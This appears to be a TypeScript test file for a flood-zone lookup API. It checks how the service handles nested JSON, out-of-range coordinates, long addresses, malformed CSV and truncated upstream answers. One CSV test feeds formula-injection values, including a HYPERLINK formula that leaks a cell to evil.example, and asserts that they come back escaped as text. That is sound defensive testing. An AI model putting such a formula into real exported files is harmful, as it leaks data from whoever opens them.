/**
 * Bad and hostile input against the real app and the emulators: every one is answered (never a 500, never a
 * wrong answer), and nothing in it can hurt whoever opens the answer in a spreadsheet.
 */
import { parse } from 'csv-parse/sync';
import { demoPlace } from '../../emulators';
import { apiGet } from '../../support/api-client';
import { NO_CACHE, Stack, expectErrorEnvelope, expectedResult, pointQuery, startStack } from '../../support/stack';

let stack: Stack;

beforeAll(async () => {
  stack = await startStack({ ...NO_CACHE });
});
afterAll(async () => {
  await stack?.close();
});
afterEach(() => stack.emulators.clearFaults());

const dc = demoPlace('dc-white-house-ae');

interface Answer {
  status: number;
  contentType: string;
  text: string;
}

async function postBatch(body: string, contentType: string, accept = 'application/x-ndjson'): Promise<Answer> {
  const response = await fetch(`${stack.url}/flood-zone/batch`, { method: 'POST', body, headers: { 'content-type': contentType, accept } });
  return { status: response.status, contentType: response.headers.get('content-type') ?? '', text: await response.text() };
}

const ndjson = (answer: Answer) => {
  expect([answer.status, answer.contentType]).toEqual([200, expect.stringMatching(/^application\/x-ndjson/)]);
  return answer.text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
};

describe('a JSON batch body nested 10,000 deep', () => {
  it.each([
    ['unclosed', `{"locations":[${'['.repeat(10_000)}`],
    ['closed', `{"locations":[${'['.repeat(10_000)}${']'.repeat(10_000)}]}`],
  ])('(%s) is a 400 INVALID_BATCH, not a 500', async (_how, body) => {
    const answer = await postBatch(body, 'application/json');
    expect(answer.status).toBe(400);
    expect(JSON.parse(answer.text)).toEqual({
      error: 'The JSON body nests arrays and objects more than 32 levels deep (at line 1).',
      statusCode: 400,
      code: 'INVALID_BATCH',
      requestId: expect.any(String),
    });
  });
});

describe('a coordinate a batch row sends as a JSON number', () => {
  it('is read from the text it was written as, as GET reads it: 90.00000000000000001 is out of range (422)', async () => {
    const get = await apiGet(stack.url, '/flood-zone?lat=90.00000000000000001&lon=0');
    expectErrorEnvelope(get, 422, 'COORDINATES_OUT_OF_RANGE');
    const rows = ndjson(
      await postBatch(
        `{"locations": [{"id": "edge", "lat": 90.00000000000000001, "lon": 0}, {"id": "dc", "lat": ${dc.lat}, "lon": ${dc.lon}}]}`,
        'application/json',
      ),
    );
    expect(rows.map((row) => [row.id, row.status])).toEqual([
      ['edge', 422],
      ['dc', 200],
    ]);
    expect(rows[0].body).toEqual({ ...get.body, requestId: rows[0].body.requestId });
  });

  it('in exponent notation is still its exact decimal value', async () => {
    const [lat, lon] = [String(dc.lat), String(dc.lon)];
    // 38.898754 as 38898754e-6: the digits without the point, and how far the point moves back.
    const asExponent = (text: string) => `${text.replace('.', '')}e-${text.split('.')[1].length}`;
    const rows = ndjson(await postBatch(`{"locations": [{"lat": ${asExponent(lat)}, "lon": ${asExponent(lon)}}]}`, 'application/json'));
    expect([rows[0].status, rows[0].body.query]).toEqual([200, { address: null, lat: Number(lat), lon: Number(lon) }]);
  });
});

describe('the length of an address', () => {
  const wave = '\u{1F30A}';

  it('is counted in characters: 200 emoji are an address (looked up), 201 a 400 that says the limit', async () => {
    const fits = await apiGet(stack.url, `/flood-zone?address=${encodeURIComponent(wave.repeat(200))}`);
    expectErrorEnvelope(fits, 404, 'ADDRESS_NOT_FOUND');
    const tooLong = await apiGet(stack.url, `/flood-zone?address=${encodeURIComponent(wave.repeat(201))}`);
    expectErrorEnvelope(tooLong, 400, 'INVALID_PARAMETERS');
    expect(tooLong.body.error).toBe('address must be at most 200 characters');
  });

  it('is counted the same way in a batch row', async () => {
    const rows = ndjson(
      await postBatch(JSON.stringify({ locations: [{ address: wave.repeat(201) }, { address: `${'a'.repeat(199)}${wave}` }] }), 'application/json'),
    );
    expect(rows.map((row) => [row.status, row.body.code])).toEqual([
      [400, 'INVALID_PARAMETERS'],
      [404, 'ADDRESS_NOT_FOUND'],
    ]);
    expect(rows[0].body.error).toBe('address must be at most 200 characters');
  });
});

describe('the CSV answer', () => {
  it('writes every text cell that a spreadsheet would run as a formula as text; numbers, negative ones too, stay numbers', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    const body = ['id,address,lat,lon', `"${hyperlink.replace(/"/g, '""')}",,${dc.lat},${dc.lon}`, '@cmd,"=1+2,Town",,', '+1,,"-=1",5', '"\tx",,"\r=2",1'].join(
      '\n',
    );
    const answer = await postBatch(body, 'text/csv', 'text/csv');
    expect([answer.status, answer.contentType]).toEqual([200, expect.stringMatching(/^text\/csv/)]);
    const [header, ...rows] = parse(answer.text) as string[][];
    const column = (name: string) => header.indexOf(name);
    const cells = (row: string[]) => ['id', 'status', 'query_address', 'query_lat', 'query_lon'].map((name) => row[column(name)]);
    expect(rows.map(cells)).toEqual([
      [`'${hyperlink}`, '200', '', String(dc.lat), String(dc.lon)],
      ["'@cmd", '404', "'=1+2,Town", '', ''],
      ["'+1", '400', '', "'-=1", '5'],
      ["'\tx", '400', '', "'\r=2", '1'],
    ]);
    expect(rows[0][column('lon')]).toBe(String(dc.lon));
    expect(Number(rows[0][column('lon')])).toBeLessThan(0);
  });
});

describe('a CSV batch body', () => {
  it('answers a record with more or fewer cells than the header as that row’s 400, the others as usual', async () => {
    const rows = ndjson(await postBatch(`id,lat,lon\na,${dc.lat},${dc.lon}\nb,1,2,3\n\nc,${dc.lat}\nd,${dc.lat},${dc.lon}\n`, 'text/csv'));
    expect(rows.map((row) => [row.index, row.id, row.status, row.body.code ?? null])).toEqual([
      [0, 'a', 200, null],
      [1, 'b', 400, 'INVALID_PARAMETERS'],
      [2, 'c', 400, 'INVALID_PARAMETERS'],
      [3, 'd', 200, null],
    ]);
    expect([rows[1].body.error, rows[2].body.error]).toEqual(['Line 3 has 4 cells; the header row has 3.', 'Line 5 has 2 cells; the header row has 3.']);
    expect(rows[1].body.statusCode).toBe(400);
  });

  it('that cannot be split into records is a 400 INVALID_BATCH naming the line where the bad record starts, quoting little', async () => {
    const unclosed = await postBatch(`id,address\na,"1 Main St\n${'x,y\n'.repeat(50)}`, 'text/csv');
    expect([unclosed.status, JSON.parse(unclosed.text).code, JSON.parse(unclosed.text).error]).toEqual([
      400,
      'INVALID_BATCH',
      'The CSV body is malformed at line 2: a quoted field is never closed.',
    ]);
    const huge = await postBatch(`id,address\na,b\nc,x${'y'.repeat(100_000)}"z"\n`, 'text/csv');
    expect([huge.status, JSON.parse(huge.text).error]).toEqual([
      400,
      'The CSV body is malformed at line 3: a quote inside the unquoted cell 2, which starts "xyyyyyyyyyyyyyyyyyyy…".',
    ]);
  });
});

describe('an ArcGIS answer cut at the transfer limit', () => {
  const truncatedEmpty = { kind: 'http-status', status: 200, body: { features: [], exceededTransferLimit: true } } as const;

  it('is never read as "outside" a coastal barrier unit: the part is unavailable', async () => {
    const place = demoPlace('fernandina-cbrs-system-unit');
    const whole = await apiGet(stack.url, `${pointQuery(place)}&include=cbrs`);
    expect(whole.body.result.coastalBarrier.status).toBe('inside');
    stack.emulators.cbrs.injectFault({ ...truncatedEmpty, match: 'CBRS Prohibitions' });
    const cut = await apiGet(stack.url, `${pointQuery(place)}&include=cbrs`);
    expect(cut.status).toBe(200);
    expect(cut.body.result).toEqual({ ...expectedResult(place, ['cbrs']), coastalBarrier: null, unavailable: ['coastalBarrier'] });
  });

  it('is read page by page on a point query: three overlapping zones through a server that sends one feature per answer', async () => {
    const paged = await startStack({ ...NO_CACHE }, { nfhl: { maxRecordCount: 1 } });
    try {
      const place = demoPlace('menominee-overlap');
      const answer = await apiGet(paged.url, pointQuery(place));
      expect([answer.status, answer.body.result]).toEqual([200, expectedResult(place)]);
      expect(answer.body.result.zonesAtPoint).toHaveLength(3);
      const zoneQueries = paged.emulators.nfhl.calls.filter((call) => call.endpoint === 'query' && call.layerName === 'Flood Hazard Zones');
      expect(zoneQueries.map((call) => call.query.resultOffset)).toEqual([undefined, '1', '2']);
    } finally {
      await paged.close();
    }
  });

  it('is never read as "no flood zone here": the lookup is a 502', async () => {
    stack.emulators.nfhl.injectFault({ ...truncatedEmpty, match: 'Flood Hazard Zones' });
    expectErrorEnvelope(await apiGet(stack.url, pointQuery(dc)), 502, 'UPSTREAM_UNAVAILABLE');
  });
});
